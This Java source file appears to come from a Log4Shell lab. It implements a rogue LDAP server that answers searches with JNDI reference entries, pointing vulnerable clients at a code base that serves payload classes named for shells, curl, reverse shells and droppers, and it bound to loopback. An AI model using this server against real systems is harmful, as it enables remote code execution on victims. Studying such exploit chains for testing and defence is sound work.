import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;

/**
 * An LDAPv3 server (RFC 4511) reduced to bind and search, playing two parts.
 *
 * <ul>
 *   <li><b>The attacker's server</b>, as marshalsec's {@code LDAPRefServer} and the other
 *       Log4Shell kits: whatever base DN is searched ({@code ldap://host:port/LabShell}), the one
 *       entry returned is a JNDI reference, {@code objectClass: javaNamingReference} with
 *       {@code javaFactory: <payload class>} and {@code javaCodeBase: http://127.0.0.1:8180/}.
 *       The JDK's LDAP provider turns that into a {@code javax.naming.Reference} and, with
 *       {@code trustURLCodebase}, loads the factory class from the code base and instantiates
 *       it. The base DN names the payload class (one of {@link #PAYLOADS}); any other DN gets
 *       {@code LabShell}.
 *   <li><b>An ordinary directory</b> for the benign scenario: a base DN under
 *       {@code dc=lab,dc=example} returns a plain person entry, no reference, as a company
 *       directory would.
 * </ul>
 *
 * <p>Each accepted connection and each search is an event ({@link Events}).
 */
final class RogueLdapServer {
    private RogueLdapServer() {}

    /** The payload classes the rogue part hands out, by base DN. */
    static final Set<String> PAYLOADS =
            Set.of("LabShell", "LabCurl", "LabReverseShell", "LabPython", "LabDropper");

    static final String DIRECTORY_SUFFIX = "dc=lab,dc=example";

    private static final int BIND_REQUEST = 0x60;
    private static final int BIND_RESPONSE = 0x61;
    private static final int UNBIND_REQUEST = 0x42;
    private static final int SEARCH_REQUEST = 0x63;
    private static final int SEARCH_RESULT_ENTRY = 0x64;
    private static final int SEARCH_RESULT_DONE = 0x65;

    /** Listens on 127.0.0.1:{@code port} in a background thread. */
    static void start(int port, String codebase) throws IOException {
        String name = "ldap:" + port;
        ServerSocket server = new ServerSocket(port, 50, InetAddress.getLoopbackAddress());
        Events.daemon(name, () -> {
            while (true) {
                try {
                    Socket socket = server.accept();
                    Events.emit(name, "accept", socket.getRemoteSocketAddress());
                    Events.daemon(name + "-conn", () -> serve(name, socket, codebase));
                } catch (IOException e) {
                    Events.emit(name, "accept-error", e);
                    Events.sleep(100);
                }
            }
        });
        Events.ready(name, server.getLocalSocketAddress());
    }

    private static void serve(String name, Socket socket, String codebase) {
        try (socket) {
            socket.setSoTimeout(10_000);
            InputStream in = socket.getInputStream();
            OutputStream out = new BufferedOutputStream(socket.getOutputStream());
            while (true) {
                Ber.Tlv message = Ber.read(in);
                if (message == null) {
                    return;
                }
                List<Ber.Tlv> parts = message.children();
                if (message.tag() != Ber.SEQUENCE || parts.size() < 2) {
                    Events.emit(name, "garbage", "tag " + message.tag());
                    return;
                }
                long id = parts.get(0).integer();
                Ber.Tlv op = parts.get(1);
                switch (op.tag()) {
                    case BIND_REQUEST -> {
                        Events.emit(name, "bind", "id=" + id);
                        out.write(Ber.tlv(Ber.SEQUENCE, Ber.integer(Ber.INTEGER, id),
                                Ber.tlv(BIND_RESPONSE, success())));
                    }
                    case SEARCH_REQUEST -> {
                        String base = op.children().get(0).string();
                        String answer = search(out, id, base, codebase);
                        Events.emit(name, "search", "base=" + base + " answer=" + answer);
                    }
                    case UNBIND_REQUEST -> {
                        return;
                    }
                    default -> Events.emit(name, "ignored", "op 0x" + Integer.toHexString(op.tag()));
                }
                out.flush();
            }
        } catch (IOException e) {
            Events.emit(name, "closed", e.getClass().getSimpleName());
        }
    }

    /** Writes the search's entry and its done message; returns what was answered. */
    private static String search(OutputStream out, long id, String base, String codebase)
            throws IOException {
        List<String[]> attributes = new ArrayList<>();
        String answer;
        if (base.toLowerCase(Locale.ROOT).endsWith(DIRECTORY_SUFFIX)) {
            for (Map.Entry<String, String> a : Map.of(
                    "objectClass", "inetOrgPerson",
                    "uid", "alice",
                    "cn", "Alice Example",
                    "sn", "Example",
                    "mail", "alice@lab.example").entrySet()) {
                attributes.add(new String[] {a.getKey(), a.getValue()});
            }
            answer = "entry";
        } else {
            String payload = PAYLOADS.contains(base) ? base : "LabShell";
            attributes.add(new String[] {"objectClass", "javaNamingReference"});
            attributes.add(new String[] {"javaClassName", "LabPayload"});
            attributes.add(new String[] {"javaFactory", payload});
            attributes.add(new String[] {"javaCodeBase", codebase});
            answer = "reference:" + payload;
        }
        byte[][] encoded = new byte[attributes.size()][];
        for (int i = 0; i < encoded.length; i++) {
            String[] a = attributes.get(i);
            encoded[i] = Ber.tlv(Ber.SEQUENCE, Ber.string(a[0]),
                    Ber.tlv(Ber.SET, Ber.string(a[1])));
        }
        out.write(Ber.tlv(Ber.SEQUENCE, Ber.integer(Ber.INTEGER, id),
                Ber.tlv(SEARCH_RESULT_ENTRY, Ber.string(base), Ber.tlv(Ber.SEQUENCE, encoded))));
        out.write(Ber.tlv(Ber.SEQUENCE, Ber.integer(Ber.INTEGER, id),
                Ber.tlv(SEARCH_RESULT_DONE, success())));
        return answer;
    }

    /** An LDAPResult with resultCode success, empty matchedDN and diagnosticMessage. */
    private static byte[] success() {
        byte[] code = Ber.integer(Ber.ENUMERATED, 0);
        byte[] dn = Ber.string("");
        byte[] message = Ber.string("");
        byte[] all = new byte[code.length + dn.length + message.length];
        System.arraycopy(code, 0, all, 0, code.length);
        System.arraycopy(dn, 0, all, code.length, dn.length);
        System.arraycopy(message, 0, all, code.length + dn.length, message.length);
        return all;
    }
}
